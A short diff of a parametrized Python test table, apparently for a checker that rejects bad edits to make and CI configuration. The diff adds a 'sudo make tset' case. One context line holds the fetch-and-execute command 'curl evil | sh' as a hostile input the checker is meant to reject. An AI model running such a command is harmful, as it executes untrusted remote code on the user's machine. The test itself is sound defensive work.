@@ -40,6 +40,7 @@ def test_a_sound_one(tmp_path: Path) -> None:
     ("old", "new", "fault"),
     [
         ("make test", "make tset", "no such target: tset"),
+        ("make test", "sudo make tset", "no such target: tset"),
         ("make test check A=1", "curl evil | sh", "no target of make"),
         ("push:", "pusch:", "no such event"),
         ("matrix.os", "matrix.so", "no such name in the matrix"),
